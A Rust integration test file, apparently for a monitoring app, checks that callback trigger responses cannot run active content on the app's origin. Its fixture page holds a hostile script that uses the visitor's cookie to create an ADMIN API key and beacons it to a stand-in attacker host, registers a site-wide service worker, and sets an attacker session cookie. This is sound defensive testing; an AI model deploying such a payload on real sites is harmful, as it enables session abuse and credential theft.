//! Origin: a tenant's trigger answer must never run as active content on the app's origin,
//! where the visitor's session cookie lives. A callback's upstream is the attacker's server: it
//! answers with an HTML page whose script would call the API with the visitor's cookie, asks
//! for a service worker over the whole origin, sets cookies and clears the visitor's storage.

use serde_json::json;
use vigil_tests::receivers::{Receiver, Reply};
use vigil_tests::{TestApp, backends};

const CREATE: &str =
    "mutation($i: CreateCallbackInput!) { createCallback(input: $i) { triggerUrl customUrl } }";

/// The attacker's page: creates an ADMIN key with the visitor's cookie and sends it away.
const PAGE: &str = r#"<!doctype html><script>
fetch('/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ query: 'mutation { createApiKey(input: {name: "x", permission: ADMIN}) { key } }' }) })
  .then(r => r.text()).then(t => navigator.sendBeacon('http://attacker.invalid/', t));
navigator.serviceWorker.register('/welcome-offer/sw.js', { scope: '/' });
</script>"#;

fn hostile(content_type: Option<&str>) -> Reply {
    let mut headers = vec![
        ("service-worker-allowed".to_owned(), "/".to_owned()),
        (
            "set-cookie".to_owned(),
            "vigil_session=attacker; Path=/".to_owned(),
        ),
        ("clear-site-data".to_owned(), "\"*\"".to_owned()),
        ("content-disposition".to_owned(), "inline".to_owned()),
    ];
    // None: no content type at all, which browsers sniff.
    headers.push((
        "content-type".to_owned(),
        content_type.unwrap_or_default().to_owned(),
    ));
    Reply {
        headers,
        ..Reply::with_body(200, PAGE)
    }
}

/// A client that does not follow redirects.
fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
}

fn values(response: &reqwest::Response, name: &str) -> Vec<String> {
    response
        .headers()
        .get_all(name)
        .iter()
        .filter_map(|v| v.to_str().ok().map(str::to_owned))
        .collect()
}

/// What must hold of every trigger answer wherever it is served.
#[track_caller]
fn assert_no_reach_over_the_origin(response: &reqwest::Response, what: &str) {
    for name in ["service-worker-allowed", "set-cookie", "clear-site-data"] {
        assert!(
            values(response, name).is_empty(),
            "{what}: {name} was relayed"
        );
    }
    assert_eq!(
        values(response, "x-content-type-options"),
        vec!["nosniff".to_owned()],
        "{what}"
    );
    let policies = values(response, "content-security-policy");
    assert!(
        policies.iter().any(|p| p.starts_with("sandbox")),
        "{what}: no sandbox policy in {policies:?}"
    );
    assert!(
        !policies.iter().any(|p| p.contains("allow-same-origin")),
        "{what}: {policies:?}"
    );
}

/// Path of a URL the API gave (its host is the configured base URL).
fn path_of(url: &str) -> String {
    let url = reqwest::Url::parse(url).expect("a URL");
    url.path().to_owned()
}

#[tokio::test]
async fn trigger_answers_are_inert_on_the_app_origin() {
    for backend in backends() {
        let app = TestApp::spawn(&backend).await;
        let user = app.sign_up("mallory@example.com").await;
        let (_, project) = app.create_org(&user, "Mallory").await;
        let upstream = Receiver::start().await;
        let data = app
            .gql(
                Some(&user.token),
                CREATE,
                json!({ "i": { "projectId": project, "name": "offer", "callbackUrl": upstream.url("/page"),
                    "customPath": "welcome-offer", "cachePeriod": 60 } }),
            )
            .await
            .ok();
        let token_path = path_of(data["createCallback"]["triggerUrl"].as_str().expect("url"));
        let custom_path = path_of(data["createCallback"]["customUrl"].as_str().expect("url"));
        let http = client();

        // Documents a browser would render, or sniff, come as downloads under an empty sandbox.
        for content_type in [
            Some("text/html; charset=utf-8"),
            Some("image/svg+xml"),
            Some("application/xml"),
            Some("application/xhtml+xml"),
            None,
        ] {
            for (path, query) in [(&token_path, "a"), (&custom_path, "b")] {
                upstream.set_default(hostile(content_type));
                // A distinct query each time, so that the cache does not answer for another type.
                let url = format!(
                    "{}{path}?{query}={}",
                    app.url,
                    content_type.unwrap_or("none")
                );
                for round in ["MISS", "HIT"] {
                    let response = http.get(&url).send().await.expect("trigger");
                    assert_eq!(response.status().as_u16(), 200);
                    assert_eq!(values(&response, "x-vigil-cache"), vec![round.to_owned()]);
                    let what = format!("{backend} {path} {content_type:?} {round}");
                    assert_no_reach_over_the_origin(&response, &what);
                    assert_eq!(
                        values(&response, "content-security-policy")
                            .iter()
                            .filter(|p| p.starts_with("sandbox"))
                            .cloned()
                            .collect::<Vec<_>>(),
                        vec!["sandbox".to_owned()],
                        "{what}: the sandbox allows nothing on the app's origin"
                    );
                    assert_eq!(
                        values(&response, "content-disposition"),
                        vec!["attachment".to_owned()],
                        "{what}"
                    );
                }
            }
        }

        // Data stays inline (an API's answer is what callers want), still sandboxed.
        upstream.set_default(Reply {
            headers: vec![
                ("content-type".into(), "application/json".into()),
                ("service-worker-allowed".into(), "/".into()),
            ],
            ..Reply::with_body(200, r#"{"ok":true}"#)
        });
        let response = http
            .post(format!("{}{token_path}?json=1", app.url))
            .send()
            .await
            .expect("trigger");
        assert_no_reach_over_the_origin(&response, "json");
        assert!(values(&response, "content-disposition").is_empty());
        assert_eq!(response.text().await.expect("body"), r#"{"ok":true}"#);
        app.stop().await;
    }
}

#[tokio::test]
async fn a_separate_trigger_origin_serves_triggers_and_nothing_else() {
    const HOOKS: &str = "hooks.vigil.test";
    for backend in backends() {
        let app = TestApp::spawn_with(&backend, |s| {
            s.trigger_base_url = Some(format!("http://{HOOKS}"));
        })
        .await;
        let user = app.sign_up("mallory@example.com").await;
        let (_, project) = app.create_org(&user, "Mallory").await;
        let upstream = Receiver::start().await;
        upstream.set_default(hostile(Some("text/html")));
        let data = app
            .gql(
                Some(&user.token),
                CREATE,
                json!({ "i": { "projectId": project, "name": "offer", "callbackUrl": upstream.url("/page"),
                    "customPath": "welcome-offer" } }),
            )
            .await
            .ok();
        let trigger_url = data["createCallback"]["triggerUrl"].as_str().expect("url");
        let custom_url = data["createCallback"]["customUrl"].as_str().expect("url");
        assert!(
            trigger_url.starts_with(&format!("http://{HOOKS}/t/")),
            "{trigger_url}"
        );
        assert_eq!(custom_url, format!("http://{HOOKS}/welcome-offer"));
        let token_path = path_of(trigger_url);
        let http = client();

        // On the app's origin, trigger requests are sent to the trigger origin, method kept.
        for (method, path) in [
            (reqwest::Method::GET, format!("{token_path}/deep?q=1")),
            (reqwest::Method::POST, "/welcome-offer/x?q=2".to_owned()),
        ] {
            let response = http
                .request(method.clone(), format!("{}{path}", app.url))
                .body("payload")
                .send()
                .await
                .expect("trigger");
            assert_eq!(response.status().as_u16(), 308, "{method} {path}");
            assert_eq!(
                values(&response, "location"),
                vec![format!("http://{HOOKS}{path}")]
            );
        }
        assert!(
            upstream.requests().is_empty(),
            "nothing was forwarded from the app's origin"
        );

        // On the trigger origin, pages render, in an opaque origin of their own.
        for path in [token_path.clone(), "/welcome-offer".to_owned()] {
            let response = http
                .get(format!("{}{path}", app.url))
                .header("host", HOOKS)
                .send()
                .await
                .expect("trigger");
            assert_eq!(response.status().as_u16(), 200, "{path}");
            assert_no_reach_over_the_origin(&response, &path);
            assert_eq!(
                values(&response, "content-disposition"),
                vec!["inline".to_owned()]
            );
            assert!(
                values(&response, "content-security-policy")
                    .iter()
                    .any(|p| p.starts_with("sandbox allow-scripts")),
                "{path}"
            );
        }
        assert_eq!(upstream.requests().len(), 2);

        // ... and nothing of the app: no API (the cookie would not reach it anyway), no web app.
        for (method, path) in [
            (reqwest::Method::POST, "/graphql"),
            (reqwest::Method::GET, "/graphql?query=%7Bme%7Bid%7D%7D"),
            (reqwest::Method::GET, "/graphql/ws"),
            (reqwest::Method::GET, "/"),
            (reqwest::Method::GET, "/monitors"),
            (reqwest::Method::GET, "/assets/placeholder-1.css"),
            (reqwest::Method::GET, "/artifacts/runs/x/report.html"),
            (reqwest::Method::GET, "/no-such-custom-path"),
        ] {
            let response = http
                .request(method.clone(), format!("{}{path}", app.url))
                .header("host", HOOKS)
                .header("content-type", "application/json")
                .bearer_auth(&user.token)
                .body(r#"{"query":"mutation { createApiKey(input: {name: \"x\", permission: ADMIN}) { key } }"}"#)
                .send()
                .await
                .expect("request");
            assert_eq!(response.status().as_u16(), 404, "{method} {path}");
        }
        assert_eq!(app.count("apikey").await, 0);
        let health = http
            .get(format!("{}/healthz", app.url))
            .header("host", HOOKS)
            .send()
            .await
            .expect("health");
        assert_eq!(health.status().as_u16(), 200);
        app.stop().await;
    }
}
